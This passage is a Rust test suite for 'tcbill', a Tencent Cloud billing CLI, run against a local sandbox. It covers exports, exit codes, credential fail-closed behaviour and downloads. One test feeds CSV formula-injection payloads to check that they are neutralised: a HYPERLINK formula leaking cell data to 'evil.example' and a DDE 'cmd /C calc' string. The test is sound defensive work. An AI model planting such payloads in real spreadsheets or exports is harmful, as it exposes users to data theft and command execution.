//! `tcbill` end to end against the sandbox, driven through `tcbill::run`, the same entry point
//! `main` uses. The tests of credentials, exit codes and argument errors run the binary itself
//! (cargo builds it for these tests) in a controlled environment (no `TENCENTCLOUD_*` or `TKE_*`
//! variables, `HOME` in a fresh temporary directory); one also interrupts it with SIGINT.

use std::path::PathBuf;
use std::time::Duration;

use clap::Parser;
use serde_json::Value;
use tcbill::{
    amounts, cli,
    commands::{bills, summary},
    duration, exit, interrupt,
};
use tencentcloud_billing::datetime::YearMonth;
use tencentcloud_billing::money::Decimal;
use tencentcloud_billing::sandbox::demo::Demo;

mod common;
use common::fields;

const HEADER: &str = "bill_month,bill_day,id,bill_id,order_id,pay_time,fee_begin_time,fee_end_time,business_code,\
business_name,product_code,product_name,pay_mode,action_type,action_type_name,region_id,region_name,zone_name,\
project_id,project_name,resource_id,resource_name,owner_uin,tags,cost,real_cost,cash_paid,voucher_paid,\
incentive_paid,transfer_paid,components";

fn never() -> interrupt::Interrupt {
    Box::pin(std::future::pending())
}

/// Run `tcbill --sandbox ARGS`; returns (exit code, stdout).
async fn tcbill(args: &[&str], interrupt: interrupt::Interrupt) -> (u8, String) {
    let mut argv = vec!["tcbill", "--sandbox"];
    argv.extend_from_slice(args);
    let mut out = Vec::new();
    let code = tcbill::run(cli::Cli::try_parse_from(argv).unwrap(), &mut out, interrupt).await;
    (code, String::from_utf8(out).unwrap())
}

fn temp(name: &str) -> common::TempPath {
    common::TempPath::new(name)
}

fn last_month() -> YearMonth {
    YearMonth::current_beijing().previous()
}

#[tokio::test]
async fn bills_csv_has_every_row_of_the_month_under_a_stable_header() {
    let month = last_month();
    let path = temp("bills.csv");
    let (code, _) = tcbill(&["bills", "--month", &month.to_string(), "--out", path.to_str().unwrap()], never()).await;
    assert_eq!(code, 0);
    let text = std::fs::read_to_string(&path).unwrap();
    let mut lines = text.lines();
    assert_eq!(lines.next(), Some(HEADER));
    assert_eq!(bills::CSV_COLUMNS.join(","), HEADER);
    let rows: Vec<Vec<String>> = lines.map(fields).collect();
    let expected = Demo::new().rows_at(month, time::OffsetDateTime::now_utc().unix_timestamp());
    assert_eq!(rows.len(), expected as usize);
    assert!(rows.iter().all(|r| r.len() == bills::CSV_COLUMNS.len()));
    assert!(rows.iter().all(|r| r[0] == month.to_string()));
    // The rows add up to the month's summary, to the last of 8 decimal places.
    let real = bills::CSV_COLUMNS.iter().position(|c| *c == "real_cost").unwrap();
    let sum: Decimal = rows.iter().map(|r| r[real].parse::<Decimal>().unwrap()).sum();
    let (code, table) = tcbill(&["summary", "--month", &month.to_string(), "--by", "region"], never()).await;
    assert_eq!(code, 0);
    let total = table.lines().last().unwrap().split_whitespace().last().unwrap().to_owned();
    assert_eq!(amounts::money(tencentcloud_billing::money::Yuan::new(sum)), total, "{table}");
    let _ = std::fs::remove_file(path);
}

#[tokio::test]
async fn bills_ndjson_parses_line_by_line() {
    let month = last_month();
    let (code, out) = tcbill(&["bills", "--month", &month.to_string(), "--format", "ndjson"], never()).await;
    assert_eq!(code, 0);
    let rows: Vec<Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(rows.len(), 3_000);
    for r in &rows {
        for c in bills::CSV_COLUMNS {
            assert!(r.get(*c).is_some(), "{c} missing in {r}");
        }
        assert_eq!(r["components"].as_u64().map(|n| n as usize), r["component_set"].as_array().map(Vec::len));
        assert!(r["real_cost"].as_str().unwrap().parse::<Decimal>().is_ok());
    }
}

#[tokio::test]
async fn an_interrupted_export_leaves_complete_rows() {
    let path = temp("interrupted.csv");
    let stop: interrupt::Interrupt = Box::pin(tokio::time::sleep(Duration::from_millis(700)));
    let (code, _) = tcbill(&["bills", "--out", path.to_str().unwrap()], stop).await;
    assert_eq!(code, exit::EXIT_INTERRUPTED);
    // The final name holds nothing; the complete rows are under the temporary one.
    assert!(!path.exists(), "an interrupted export appeared under the final name");
    let partial = tcbill::partial::partial_path(&path);
    let text = std::fs::read_to_string(&partial).unwrap();
    assert!(text.ends_with('\n'));
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], HEADER);
    let rows = lines.len() - 1;
    // Whole pages of whole rows, and not the whole month.
    assert!(rows.is_multiple_of(300) && rows < 3_000, "{rows}");
    assert!(lines[1..].iter().all(|l| fields(l).len() == bills::CSV_COLUMNS.len()));
    let _ = std::fs::remove_file(partial);
}

#[tokio::test]
async fn watch_once_exit_codes() {
    for (scenario, threshold, code, first) in [
        ("healthy", "500.00", 0, "healthy"),
        ("low", "500.00", 1, "LOW"),
        ("overdue", "500.00", 2, "OVERDUE"),
        ("credit", "500.00", 0, "healthy"),
        ("credit", "2000", 1, "LOW"),
    ] {
        let (got, out) = tcbill(&["--demo", scenario, "watch", "--threshold", threshold, "--once"], never()).await;
        assert_eq!(got, code, "{scenario}: {out}");
        assert!(out.starts_with(first), "{scenario}: {out}");
    }
    let (_, out) = tcbill(&["--demo", "overdue", "watch", "--threshold", "1", "--once"], never()).await;
    assert!(out.contains("API Gateway  suspended from"), "{out}");
}

#[tokio::test]
async fn watch_once_posts_the_events_to_the_webhook() {
    use wiremock::matchers::{body_partial_json, method};
    use wiremock::{Mock, MockServer, ResponseTemplate};
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(body_partial_json(serde_json::json!({ "event": "overdue" })))
        .respond_with(ResponseTemplate::new(200))
        .expect(1)
        .mount(&server)
        .await;
    Mock::given(method("POST")).respond_with(ResponseTemplate::new(200)).mount(&server).await;
    let (code, _) =
        tcbill(&["--demo", "overdue", "watch", "--threshold", "500", "--once", "--webhook", &server.uri()], never())
            .await;
    assert_eq!(code, 2);
    // Low balance and overdue.
    assert_eq!(server.received_requests().await.unwrap().len(), 2);
}

#[tokio::test]
async fn summary_charts_are_valid_svg_and_png() {
    let svg = temp("costs.svg");
    let (code, table) = tcbill(&["summary", "--by", "product", "--chart", svg.to_str().unwrap()], never()).await;
    assert_eq!(code, 0);
    assert!(table.contains("Cloud Virtual Machine") && table.contains("total"), "{table}");
    let text = std::fs::read_to_string(&svg).unwrap();
    assert!(text.starts_with("<svg") && text.trim_end().ends_with("</svg>"), "{}", &text[..80.min(text.len())]);
    assert!(text.contains("Cloud Virtual Machine"));
    let png = temp("costs.png");
    let (code, _) =
        tcbill(&["summary", "--by", "tag", "--tag-key", "env", "--chart", png.to_str().unwrap()], never()).await;
    assert_eq!(code, 0);
    let bytes = std::fs::read(&png).unwrap();
    assert_eq!(&bytes[..8], b"\x89PNG\r\n\x1a\n");
    assert!(bytes.len() > 1_000);
    let (code, _) = tcbill(&["summary", "--chart", temp("costs.gif").to_str().unwrap()], never()).await;
    assert_eq!(code, exit::EXIT_ERROR);
    let (code, _) = tcbill(&["summary", "--by", "tag"], never()).await;
    assert_eq!(code, exit::EXIT_ERROR);
    for p in [svg, png] {
        let _ = std::fs::remove_file(p);
    }
}

#[tokio::test]
async fn balance_and_runway() {
    let (code, out) = tcbill(&["balance", "--json"], never()).await;
    assert_eq!(code, 0);
    let v: Value = serde_json::from_str(out.trim()).unwrap();
    // 52,000.00, less a few seconds of the demo's drain.
    let available: Decimal = v["available"].as_str().unwrap().parse().unwrap();
    assert!(available <= Decimal::from(52_000) && available > Decimal::from(51_990), "{v}");
    assert_eq!(v["account_kind"], "cash");
    let (code, out) = tcbill(&["--demo", "overdue", "balance"], never()).await;
    assert_eq!(code, 0);
    assert!(out.contains("overdue"), "{out}");
    let (code, out) = tcbill(&["--demo", "low", "runway", "--until", "2099-12-31"], never()).await;
    assert_eq!(code, 0);
    assert!(out.contains("burn") && out.contains("runs out") && out.contains("top-up to 2099-12-31"), "{out}");
}

#[test]
fn charts_of_one_bar_and_of_many() {
    let group = |i: usize| summary::Group {
        name: format!("group {i}"),
        cost: tencentcloud_billing::money::Yuan::from(100 * i as i64 + 1),
        share: None,
        cash: tencentcloud_billing::money::Yuan::ZERO,
        voucher: tencentcloud_billing::money::Yuan::ZERO,
    };
    let one = temp("one.svg");
    summary::chart::render(&one, "one", &[group(1)]).unwrap();
    assert!(std::fs::read_to_string(&one).unwrap().contains("group 1"));
    // More than twelve: the rest are summed into one bar.
    let many: Vec<_> = (1..=20).rev().map(group).collect();
    let path = temp("many.svg");
    summary::chart::render(&path, "many", &many).unwrap();
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains("8 others") && text.contains("group 20") && !text.contains("group 8<"));
    assert!(summary::chart::render(&temp("none.svg"), "none", &[]).is_err());
    for p in [one, path] {
        let _ = std::fs::remove_file(p);
    }
}

#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
    let sandbox = tencentcloud_billing::sandbox::Sandbox::start().await.unwrap();
    sandbox.set_json_handler("DescribeBillDetail", |_, _| {
        Ok(serde_json::json!({
            "Total": 1,
            "DetailSet": [{
                "Id": "=1+1",
                "BusinessCode": "p_cvm",
                "BusinessCodeName": "Cloud Virtual Machine",
                "ProductCode": "sp_cvm_s5",
                "ProductCodeName": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "PayModeName": "+cmd|' /C calc'!A0",
                "ActionType": "-",
                "ActionTypeName": "refund-of-order",
                "RegionId": "4",
                "RegionName": "@SUM(A1:A9)",
                "ZoneName": "\tZone",
                "ProjectId": -5,
                "ProjectName": "\r=evil",
                "ResourceId": "ins-1",
                "ResourceName": "-2+3,x",
                "OwnerUin": "100000000001",
                "Tags": [{ "TagKey": "=team", "TagValue": "ops" }, { "TagKey": "env", "TagValue": "=prod" }],
                "ComponentSet": [
                    { "Cost": "-12.50", "RealCost": "-12.50", "CashPayAmount": "-12.50", "VoucherPayAmount": "0",
                      "IncentivePayAmount": "0", "TransferPayAmount": "0" },
                    { "Cost": "2.25", "RealCost": "-0.75", "CashPayAmount": "-0.75", "VoucherPayAmount": "0",
                      "IncentivePayAmount": "0", "TransferPayAmount": "0" }
                ]
            }]
        })
        .to_string())
    });
    let client = sandbox.client_builder().build().unwrap();
    let mut out = Vec::new();
    let month: YearMonth = "2026-10".parse().unwrap();
    let done = bills::export(&client, month, bills::Format::Csv, None, &mut out, never()).await.unwrap();
    assert_eq!((done.rows, done.pages), (1, 1));
    let expected = format!(
        "{HEADER}\n,,'=1+1,,,,,,p_cvm,Cloud Virtual Machine,sp_cvm_s5,\
         \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",'+cmd|' /C calc'!A0,'-,refund-of-order,4,\
         '@SUM(A1:A9),'\tZone,-5,\"'\r=evil\",ins-1,\"'-2+3,x\",100000000001,'=team=ops;env==prod,\
         -10.25,-13.25,-13.25,0,0,0,2\n"
    );
    assert_eq!(String::from_utf8(out).unwrap(), expected);
}

#[tokio::test]
async fn an_overflowing_row_stops_the_export_after_the_complete_rows() {
    let sandbox = tencentcloud_billing::sandbox::Sandbox::start().await.unwrap();
    sandbox.set_json_handler("DescribeBillDetail", |_, _| {
        let huge = serde_json::json!({ "Cost": "99999999999999999999999999" });
        Ok(serde_json::json!({
            "Total": 2,
            "DetailSet": [
                { "Id": "fine", "ComponentSet": [{ "Cost": "1.50" }] },
                { "Id": "hostile", "ComponentSet": vec![huge; 800] },
            ]
        })
        .to_string())
    });
    let client = sandbox.client_builder().build().unwrap();
    let mut out = Vec::new();
    let e = bills::export(&client, "2026-10".parse().unwrap(), bills::Format::Csv, None, &mut out, never())
        .await
        .unwrap_err();
    assert_eq!(
        e.to_string(),
        "the cost of bill row \"hostile\" adds up to more than 28 digits: the amounts cannot be right, so no total \
         is shown"
    );
    assert_eq!(String::from_utf8(out).unwrap(), format!("{HEADER}\n,,fine,,,,,,,,,,,,,,,,,,,,,,1.50,0,0,0,0,0,1\n"));
}

/// The `tcbill` binary of this package, which cargo builds before running these tests.
fn tcbill_binary() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_tcbill"))
}

/// What a run of the binary gave.
#[derive(Debug)]
struct Run {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

/// Run the binary with no `TENCENTCLOUD_*` or `TKE_*` variable but `env`, and `HOME` in a fresh
/// directory named after `tag`, so that no credentials of the machine or the user are found.
fn run_binary(tag: &str, args: &[&str], env: &[(&str, &str)]) -> Run {
    run_binary_in(tag, &|_| {}, args, env)
}

/// [`run_binary`] with `prepare` called on the fresh `HOME` first.
fn run_binary_in(tag: &str, prepare: &dyn Fn(&std::path::Path), args: &[&str], env: &[(&str, &str)]) -> Run {
    let home = temp(&format!("home-{tag}"));
    let _ = std::fs::remove_dir_all(&home);
    std::fs::create_dir_all(&home).unwrap();
    prepare(&home);
    let mut cmd = std::process::Command::new(tcbill_binary());
    for (k, _) in std::env::vars_os() {
        let name = k.to_string_lossy();
        if name.starts_with("TENCENTCLOUD_") || name.starts_with("TKE_") || name == "USERPROFILE" {
            cmd.env_remove(&k);
        }
    }
    cmd.env("HOME", &home)
        // Never look up the CVM metadata host: tests stay on loopback.
        .env("TENCENTCLOUD_CVM_ROLE_DISABLED", "true")
        .args(args)
        .envs(env.iter().copied())
        .stdin(std::process::Stdio::null());
    // Output to files, so that a run that does not end (a command that should have refused but
    // serves) fails the test after a generous bound instead of hanging it.
    let (stdout, stderr) = (home.join("stdout"), home.join("stderr"));
    cmd.stdout(std::fs::File::create(&stdout).unwrap()).stderr(std::fs::File::create(&stderr).unwrap());
    let mut child = cmd.spawn().unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(120);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("tcbill {args:?} still runs after 120s: {}", std::fs::read_to_string(&stderr).unwrap_or_default());
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let run = Run {
        code: status.code(),
        stdout: std::fs::read_to_string(&stdout).unwrap(),
        stderr: std::fs::read_to_string(&stderr).unwrap(),
    };
    let _ = std::fs::remove_dir_all(&home);
    run
}

/// The one credential source no variable can hide (the profile provider always looks there):
/// without it, `run_binary` leaves the default chain nothing to find.
fn assert_no_system_credentials() {
    let system = std::path::Path::new("/etc/tencentcloud/credentials");
    assert!(
        !system.exists(),
        "{} exists: the default chain would use it, so this test cannot run here",
        system.display()
    );
}

/// Every subcommand, run without credentials and without `--sandbox`, refuses: exit 4, nothing
/// on stdout, the reason on stderr, no output file, no webhook call, no sandbox started. The
/// subcommands are checked against clap's list, so a new one cannot be left out.
#[test]
fn every_subcommand_fails_closed_without_credentials() {
    use clap::CommandFactory;
    assert_no_system_credentials();
    let dir = tempfile::tempdir().unwrap();
    let downloads = dir.path().join("downloads");
    std::fs::create_dir(&downloads).unwrap();
    // A webhook receiver that would see any call: nothing may connect to it.
    let hook = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    hook.set_nonblocking(true).unwrap();
    let hook_url = format!("http://{}/hook", hook.local_addr().unwrap());
    let out = |name: &str| dir.path().join(name).to_str().unwrap().to_owned();
    let month = last_month().to_string();
    let cases: Vec<Vec<String>> = [
        vec!["balance"],
        vec!["balance", "--json"],
        vec!["bills", "--month", &month, "--out", &out("bills.csv")],
        vec!["bills", "--format", "ndjson"],
        vec!["org", "balances"],
        vec!["summary", "--chart", &out("costs.svg")],
        vec!["watch", "--threshold", "500", "--once", "--webhook", &hook_url],
        vec!["--demo", "overdue", "watch", "--threshold", "500", "--once"],
        vec!["watch", "--threshold", "500", "--interval", "1s", "--webhook", &hook_url],
        vec!["download", "--out", downloads.to_str().unwrap()],
        vec!["serve", "--listen", "127.0.0.1:0", "--interval", "1s"],
        vec!["runway"],
        vec!["focus", "--month", &month, "--out", &out("bill.parquet")],
        vec!["focus", "--months", "2025-01..2025-03", "--out", &out("range")],
    ]
    .into_iter()
    .map(|a| a.into_iter().map(str::to_owned).collect())
    .collect();
    let mut covered = std::collections::BTreeSet::new();
    for args in &cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let run = run_binary("fail-closed", &args, &[]);
        assert_eq!(run.code, Some(i32::from(exit::EXIT_DEMO_DATA)), "{args:?}: {run:?}");
        assert_eq!(run.stdout, "", "{args:?}");
        assert!(run.stderr.starts_with("tcbill: no credentials found (env: "), "{args:?}: {run:?}");
        assert!(
            run.stderr.ends_with(
                "; refusing to use the demo account instead, whose figures are made up: configure credentials, or \
                 pass --sandbox to use the demo\n"
            ),
            "{args:?}: {run:?}"
        );
        assert_eq!(run.stderr.lines().count(), 1, "one line, no sandbox banner: {run:?}");
        let command = args.iter().find(|a| !a.starts_with('-') && **a != "overdue").unwrap();
        covered.insert(command.to_string());
    }
    let all: std::collections::BTreeSet<String> =
        cli::Cli::command().get_subcommands().map(|c| c.get_name().to_owned()).filter(|n| n != "help").collect();
    assert_eq!(covered, all, "every subcommand is tried");
    let mut left: Vec<String> =
        std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    left.sort();
    assert_eq!(left, ["downloads"], "no output file");
    assert_eq!(std::fs::read_dir(&downloads).unwrap().count(), 0, "no download");
    assert_eq!(hook.accept().map(|_| ()).unwrap_err().kind(), std::io::ErrorKind::WouldBlock, "no webhook call");
}

#[test]
fn with_sandbox_asked_for_watch_once_reports_the_demo_health() {
    for (scenario, code, first) in
        [("healthy", 0, "healthy: available "), ("low", 1, "LOW: "), ("overdue", 2, "OVERDUE: ")]
    {
        let run = run_binary("asked", &["--sandbox", "--demo", scenario, "watch", "--threshold", "500", "--once"], &[]);
        assert_eq!(run.code, Some(code), "{scenario}: {run:?}");
        assert!(run.stdout.starts_with(first), "{scenario}: {run:?}");
        assert!(
            run.stderr.starts_with("tcbill: --sandbox: using the built-in sandbox at http://127.0.0.1:"),
            "{run:?}"
        );
        assert!(!run.stderr.contains("DEMO DATA"), "{run:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_profile_file_is_used_not_the_sandbox() {
    use tencentcloud_billing::money::Cents;
    use tencentcloud_billing::sandbox::{Account, Sandbox};
    let sandbox = Sandbox::builder().account(Account::with_balance(Cents::from(100_000))).start().await.unwrap();
    sandbox.add_credentials("AKIDprofiletcbill", "profile-secret-key", None);
    let file = temp("profile-credentials");
    std::fs::write(&file, "[default]\nsecret_id = AKIDprofiletcbill\nsecret_key = profile-secret-key\n").unwrap();
    let (file_s, endpoint) = (file.to_str().unwrap().to_owned(), sandbox.endpoint());
    let run = tokio::task::spawn_blocking(move || {
        run_binary(
            "profile",
            &["watch", "--threshold", "500", "--once"],
            &[("TENCENTCLOUD_CREDENTIALS_FILE", &file_s), ("TENCENTCLOUD_BILLING_ENDPOINT", &endpoint)],
        )
    })
    .await
    .unwrap();
    assert_eq!(run.code, Some(0), "{run:?}");
    assert_eq!(run.stdout, "healthy: available 1000.00 (threshold 500.00)\n");
    assert_eq!(run.stderr, "", "no sandbox banner, no secret");
    let requests = sandbox.requests();
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert_eq!(requests[0].action, "DescribeAccountBalance");
    assert_eq!(requests[0].secret_id, "AKIDprofiletcbill");
    assert_eq!(requests[0].error_code, None, "the signature checked out");
    let _ = std::fs::remove_file(file);
}

#[test]
fn a_malformed_profile_file_is_an_error_not_a_fallback() {
    let file = temp("malformed-credentials");
    std::fs::write(&file, "[default\nsecret_id = AKIDbroken\nsecret_key = do-not-print-me\n").unwrap();
    let path = file.to_str().unwrap();
    let run =
        run_binary("malformed", &["watch", "--threshold", "500", "--once"], &[("TENCENTCLOUD_CREDENTIALS_FILE", path)]);
    assert_eq!(run.code, Some(3), "{run:?}");
    assert_eq!(run.stdout, "");
    assert_eq!(
        run.stderr,
        format!(
            "tcbill: credentials error: the profile file {path} is not valid INI at line 1; not falling back to the \
             demo sandbox: fix the credentials, or pass --sandbox for the demo\n"
        )
    );
    // A profile without a key is configured but broken too.
    std::fs::write(&file, "[default]\nsecret_id = AKIDhalf\n").unwrap();
    let run = run_binary("halfprofile", &["balance"], &[("TENCENTCLOUD_CREDENTIALS_FILE", path)]);
    assert_eq!(run.code, Some(3), "{run:?}");
    assert!(
        run.stderr.starts_with(&format!("tcbill: credentials error: profile [default] in {path} has no secret_key;")),
        "{run:?}"
    );
    // --sandbox does not look at credentials at all.
    let run = run_binary("malformed-sandbox", &["--sandbox", "balance"], &[("TENCENTCLOUD_CREDENTIALS_FILE", path)]);
    assert_eq!(run.code, Some(0), "{run:?}");
    let _ = std::fs::remove_file(file);
}

#[test]
fn absurd_durations_are_refused_with_exit_3() {
    for (flag, value, reason) in [
        ("--interval", "99999999999999999d", "\"99999999999999999d\" is too long: at most 30d"),
        ("--interval", "213503982334602d", "\"213503982334602d\" is too long: at most 30d"),
        ("--interval", "99999999999999999999999s", "\"99999999999999999999999s\" is too long: at most 30d"),
        ("--interval", "31d", "\"31d\" is too long: at most 30d"),
        ("--interval", "0s", "\"0s\" is too short: poll at most once a second (1s)"),
        ("--interval", "d", "\"d\" is not a duration like 30s, 5m or 1h"),
        ("--debounce", "99999999999999999d", "\"99999999999999999d\" is too long: at most 30d"),
    ] {
        let run = run_binary("durations", &["--sandbox", "watch", "--threshold", "500", "--once", flag, value], &[]);
        let name = if flag == "--interval" { "INTERVAL" } else { "DEBOUNCE" };
        assert_eq!(run.code, Some(3), "{value}: {run:?}");
        assert_eq!(run.stdout, "");
        assert_eq!(
            run.stderr,
            format!(
                "error: invalid value '{value}' for '{flag} <{name}>': {reason}\n\nFor more information, try '--help'.\n"
            )
        );
    }
    // Zero is a valid debounce (report at once).
    let run = run_binary("durations", &["--sandbox", "watch", "--threshold", "500", "--once", "--debounce", "0s"], &[]);
    assert_eq!(run.code, Some(0), "{run:?}");
}

#[test]
fn help_lists_the_exit_codes() {
    let run = run_binary("help", &["--help"], &[]);
    assert_eq!(run.code, Some(0), "{run:?}");
    for line in [
        "  0    success; for `watch --once`: healthy\n",
        "  1    `watch --once`: low balance\n",
        "  2    `watch --once`: overdue\n",
        "  3    error: bad arguments, broken credentials, API unreachable or failing\n",
        "  4    no credentials found and no --sandbox: refused, nothing fetched, printed or written\n",
        "  130  interrupted (Ctrl-C)\n",
    ] {
        assert!(run.stdout.contains(line), "{line:?} missing from {}", run.stdout);
    }
    for variable in ["HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY", "NO_PROXY"] {
        assert!(run.stdout.contains(variable), "{variable} missing from {}", run.stdout);
    }
    // The fail-closed rule, and in every subcommand's help (through the global --sandbox) as well.
    assert!(run.stdout.contains("Every command fails closed"), "{}", run.stdout);
    for command in ["balance", "bills", "summary", "watch", "download", "serve", "focus", "runway", "org"] {
        let run = run_binary("help-sub", &[command, "--help"], &[]);
        assert!(run.stdout.contains("no credentials means exit 4"), "{command}: {}", run.stdout);
    }
}

#[test]
fn durations_parse() {
    assert_eq!(duration::parse_duration("5m"), Ok(Duration::from_secs(300)));
    assert_eq!(duration::parse_duration("90"), Ok(Duration::from_secs(90)));
    assert_eq!(duration::parse_duration("2h"), Ok(Duration::from_secs(7_200)));
    assert!(duration::parse_duration("5 minutes").is_err());
    assert_eq!(duration::parse_duration("30d"), Ok(duration::MAX_DURATION));
    assert_eq!(duration::parse_debounce("0"), Ok(Duration::ZERO));
    assert_eq!(duration::parse_interval("1s"), Ok(duration::MIN_INTERVAL));
    for absurd in ["99999999999999999d", "18446744073709551615s", "18446744073709551616", "2592001", "0", ""] {
        assert!(duration::parse_interval(absurd).is_err(), "{absurd}");
    }
    assert_eq!(bills::csv_field("a,\"b\""), "\"a,\"\"b\"\"\"");
}

/// The real binary and a real SIGINT.
#[cfg(unix)]
#[test]
fn ctrl_c_in_the_binary_leaves_a_valid_file() {
    let path = temp("sigint.csv");
    let mut child = std::process::Command::new(tcbill_binary())
        .args(["--sandbox", "bills", "--out", path.to_str().unwrap()])
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(1_200));
    let killed = std::process::Command::new("kill").args(["-INT", &child.id().to_string()]).status().unwrap();
    assert!(killed.success());
    let status = child.wait().unwrap();
    // Complete under the final name, or interrupted under the temporary one: never half a month
    // under the final name.
    let partial = tcbill::partial::partial_path(&path);
    let read: &std::path::Path = if status.code() == Some(0) { &path } else { &partial };
    let text = std::fs::read_to_string(read).unwrap();
    assert!(status.code() == Some(0) || !path.exists());
    let rows = text.lines().count() - 1;
    if rows == 3_000 {
        // The machine was fast enough to finish first: the file is simply complete.
        assert_eq!(status.code(), Some(0));
    } else {
        assert_eq!(status.code(), Some(130));
        assert!(rows.is_multiple_of(300), "{rows}");
    }
    assert!(text.starts_with(HEADER) && text.ends_with('\n'));
    let _ = std::fs::remove_file(path);
    let _ = std::fs::remove_file(partial);
}

#[test]
fn download_writes_the_bill_file_with_progress_on_stderr() {
    let dir = temp("download-l3");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let out = dir.to_str().unwrap();
    let run =
        run_binary("download", &["--sandbox", "download", "--month", "2026-10", "--type", "L3", "--out", out], &[]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(run.stdout, "");
    let month: YearMonth = "2026-10".parse().unwrap();
    let expected = tencentcloud_billing::sandbox::bill_file("billDetail", month).unwrap();
    let written = std::fs::read(dir.join("billDetail-2026-10.csv")).unwrap();
    assert_eq!(written.len(), expected.len());
    assert_eq!(written, expected);
    let names: Vec<_> = std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(names.len(), 1, "only the file, no temporary left: {names:?}");
    let path = dir.join("billDetail-2026-10.csv");
    assert!(run.stderr.contains("tcbill: asking for the billDetail file of 2026-10\n"), "{}", run.stderr);
    assert!(run.stderr.contains(&format!("tcbill: downloading {} bytes\n", expected.len())), "{}", run.stderr);
    assert!(
        run.stderr.ends_with(&format!("tcbill: wrote {} bytes to {}\n", expected.len(), path.display())),
        "{}",
        run.stderr
    );
    let _ = std::fs::remove_dir_all(dir);
}

/// The first and last months the types hold go through every month-taking command without a
/// panic: a download of 9999-12 (which once panicked the sandbox) is written whole, and a FOCUS
/// period that cannot be written (year 0) is a clear error.
#[test]
fn the_edge_months_never_panic() {
    let dir = temp("edge-months");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let out = dir.to_str().unwrap();
    for month in ["9999-12", "0000-01"] {
        let run = run_binary("edge-download", &["--sandbox", "download", "--month", month, "--out", out], &[]);
        assert_eq!(run.code, Some(0), "{month}: {}", run.stderr);
        let expected = tencentcloud_billing::sandbox::bill_file("billDetail", month.parse().unwrap()).unwrap();
        assert_eq!(std::fs::read(dir.join(format!("billDetail-{month}.csv"))).unwrap(), expected, "{month}");
        for args in [vec!["bills", "--month", month], vec!["summary", "--month", month]] {
            let run = run_binary("edge", &[&["--sandbox"], args.as_slice()].concat(), &[]);
            assert_eq!(run.code, Some(0), "{args:?}: {}", run.stderr);
        }
    }
    let focus = dir.join("last.parquet");
    let run =
        run_binary("edge-focus", &["--sandbox", "focus", "--month", "9999-12", "--out", focus.to_str().unwrap()], &[]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let first = dir.join("first.csv");
    let run =
        run_binary("edge-focus", &["--sandbox", "focus", "--month", "0000-01", "--out", first.to_str().unwrap()], &[]);
    assert_eq!(run.code, Some(exit::EXIT_ERROR.into()), "{}", run.stderr);
    assert!(run.stderr.contains("BillingPeriodEnd") && !run.stderr.contains("panicked"), "{}", run.stderr);
    assert!(!first.exists(), "nothing under the final name");
    let _ = std::fs::remove_dir_all(dir);
}

#[tokio::test]
async fn download_types_map_to_the_file_types() {
    use tencentcloud_billing::types::BillFileType;
    let cases = [
        ("L0", BillFileType::BillOverview),
        ("L1", BillFileType::BillSummary),
        ("L2", BillFileType::BillResource),
        ("L3", BillFileType::BillDetail),
        ("pack", BillFileType::BillPack),
    ];
    for (flag, file_type) in cases {
        let cli = cli::Cli::try_parse_from(["tcbill", "download", "--type", flag]).unwrap();
        let cli::Command::Download { kind, .. } = cli.command else { panic!("{flag}") };
        assert_eq!(kind.file_type(), file_type, "{flag}");
    }
    assert!(cli::Cli::try_parse_from(["tcbill", "download", "--type", "L4"]).is_err());
    // The limits: the rate floor defaults to the library's, the deadline to none.
    let cli = cli::Cli::try_parse_from(["tcbill", "download"]).unwrap();
    let cli::Command::Download { deadline, min_rate, .. } = cli.command else { panic!() };
    assert_eq!((deadline, min_rate), (None, tencentcloud_billing::files::DEFAULT_MIN_RATE));
    let cli = cli::Cli::try_parse_from(["tcbill", "download", "--deadline", "2h", "--min-rate", "0"]).unwrap();
    let cli::Command::Download { deadline, min_rate, .. } = cli.command else { panic!() };
    assert_eq!((deadline, min_rate), (Some(std::time::Duration::from_secs(7_200)), 0));
    assert!(cli::Cli::try_parse_from(["tcbill", "download", "--deadline", "0s"]).is_err());
    assert!(cli::Cli::try_parse_from(["tcbill", "download", "--min-rate", "-1"]).is_err());
    // A directory that does not exist is an error, exit 3.
    let missing = temp("download-missing-dir").join("nope");
    let (code, _) = tcbill(&["download", "--month", "2026-10", "--out", missing.to_str().unwrap()], never()).await;
    assert_eq!(code, exit::EXIT_ERROR);
}

/// A step that sets up a fresh `HOME` before a run.
type Prepare = dyn Fn(&std::path::Path);

/// A month's cost by product as the China site answers it in zh-CN: Chinese names, one mixed.
const ZH_CN_SUMMARY: &str = r#"{"Ready": 1, "SummaryOverview": [
    {"BusinessCode": "p_cvm", "BusinessCodeName": "云服务器", "RealTotalCost": "1234.50", "RealTotalCostRatio": "60.10",
     "CashPayAmount": "1234.50", "VoucherPayAmount": "0.00"},
    {"BusinessCode": "p_cdn", "BusinessCodeName": "内容分发网络 CDN", "RealTotalCost": "500.25", "RealTotalCostRatio": "24.35",
